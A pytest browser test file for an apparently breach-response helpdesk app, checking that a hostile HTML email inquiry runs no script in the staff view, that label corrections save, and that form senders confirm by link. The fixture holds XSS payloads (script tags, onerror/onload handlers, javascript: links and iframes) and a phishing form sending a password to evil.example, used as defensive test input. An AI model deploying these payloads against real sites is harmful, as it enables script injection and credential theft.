"""Open a hostile inquiry in headless Chromium and prove that none of its script ran."""

from __future__ import annotations

import os
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from typing import Any

import pytest

from breachdesk.inquiries.intake.imap import receive_raw
from breachdesk.testing.factories import PASSWORD
from breachdesk.testing.fixtures import World

pytestmark = [pytest.mark.browser]
os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "1")

HOSTILE_HTML = """
<p>退会したいです</p>
<script>window.__pwned = 1; alert(1)</script>
<img src="x" onerror="window.__pwned = 2">
<svg onload="window.__pwned = 3"></svg>
<a href="javascript:window.__pwned=4" id="evil-link">click</a>
<iframe src="javascript:window.parent.__pwned=5"></iframe>
<style>body { display: none !important }</style>
<div style="position:fixed;inset:0;background:red">overlay</div>
<form action="https://evil.example/"><input name="password"></form>
"""


@pytest.mark.django_db(transaction=True)
def test_a_hostile_html_inquiry_runs_no_script_in_the_staff_browser(
    world: World, live_server: Any, page: Any, chromium_path: str
) -> None:
    outer = MIMEMultipart("alternative")
    outer["From"] = "attacker@example.jp"
    outer["Subject"] = "<script>window.__pwned=6</script>\u200b件名"
    outer["Message-ID"] = "<hostile@example.jp>"
    outer.attach(MIMEText("<script>window.__pwned=7</script> 退会したいです", "plain", "utf-8"))
    outer.attach(MIMEText(HOSTILE_HTML, "html", "utf-8"))
    inquiry = receive_raw(incident=world.incident, raw=outer.as_bytes(), channel="email", actor="t").inquiry
    assert inquiry is not None
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("#id_username", "responder")
    page.fill("#id_password", PASSWORD)
    page.click("main button[type=submit]")
    for view in ("text", "html"):
        page.goto(f"{live_server.url}/incidents/{world.incident.code}/desk/{inquiry.pk}/?view={view}")
        page.wait_for_selector("#inquiry-messages")
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert page.locator("#inquiry-messages").is_visible()
        assert page.locator("script:not([src])").count() == 0
    assert page.locator(".mail-html a#evil-link").count() == 0 or "javascript" not in (
        page.locator(".mail-html a").first.get_attribute("href") or ""
    )
    assert "退会したいです" in page.content()
    assert dialogs == []


@pytest.mark.django_db(transaction=True)
def test_a_staff_correction_in_the_browser_is_saved_as_labelled_data(
    world: World, live_server: Any, page: Any, chromium_path: str
) -> None:
    from breachdesk.inquiries.models import LabelCorrection
    from breachdesk.inquiries.tests.helpers import mail

    inquiry = receive_raw(
        incident=world.incident,
        raw=mail(body="チケットはいつ届きますか", message_id="<fix@x>"),
        channel="email",
        actor="t",
    ).inquiry
    assert inquiry is not None
    predicted = list(inquiry.labels)
    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("#id_username", "responder")
    page.fill("#id_password", PASSWORD)
    page.click("main button[type=submit]")
    page.goto(f"{live_server.url}/incidents/{world.incident.code}/desk/{inquiry.pk}/")
    form = page.locator("#inquiry-labels form")
    for box in form.locator("input[name=labels]").all():
        box.set_checked(box.get_attribute("value") == "complaint")
    with page.expect_navigation():  # the POST, then the redirect back to the inquiry
        form.locator("button[type=submit]").click()
    page.wait_for_selector("#inquiry-labels")
    correction = LabelCorrection.objects.get(inquiry=inquiry)
    assert correction.actor == world.responder
    assert correction.predicted == predicted
    assert correction.corrected == ["complaint"]
    inquiry.refresh_from_db()
    assert inquiry.labels == ["complaint"]
    assert page.locator("#inquiry-labels input[value=complaint]").is_checked()


@pytest.mark.django_db(transaction=True)
def test_a_form_sender_confirms_by_link_and_an_unverified_deletion_says_so_in_the_browser(
    world: World, published: Any, live_server: Any, page: Any, chromium_path: str, mailoutbox: Any
) -> None:
    import re

    from breachdesk.inquiries.ack import ack_process
    from breachdesk.inquiries.models import Inquiry

    ack_process()  # the sample inquiry's own acknowledgment
    mailoutbox.clear()
    page.goto(f"{live_server.url}/p/{world.incident.code}/contact/")
    page.fill("#id_name", "山田 太郎")
    page.fill("#id_email", "taro@example.jp")
    page.fill("#id_subject", "【重要】カード再登録 https://evil.example/")
    page.fill("#id_body", "会員番号 W-0001 です。退会して削除してください。")
    page.click("main button[type=submit]")
    page.wait_for_selector("#reference")
    ack_process()
    assert len(mailoutbox) == 1
    assert "evil.example" not in mailoutbox[0].subject + mailoutbox[0].body
    found = re.search(r"(/p/\S+/confirm/\S+/)", mailoutbox[0].body)
    assert found is not None
    page.goto(live_server.url + found.group(1)[found.group(1).index("/p/") :])
    page.click("#confirm-address")
    page.wait_for_selector("#confirmed")
    inquiry = Inquiry.objects.get(incident=world.incident, channel="form")
    assert not inquiry.awaiting_confirmation
    assert inquiry.person_id is None
    assert inquiry.suggested_person_id == world.person.pk
    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("#id_username", "responder")
    page.fill("#id_password", PASSWORD)
    page.click("main button[type=submit]")
    page.goto(f"{live_server.url}/incidents/{world.incident.code}/desk/{inquiry.pk}/")
    page.wait_for_selector("#suggested-person")
    page.goto(f"{live_server.url}/incidents/{world.incident.code}/desk/deletions/")
    assert page.locator(".badge-unverified").count() >= 1
    assert page.locator("form[action$='/send-link/']").count() >= 1
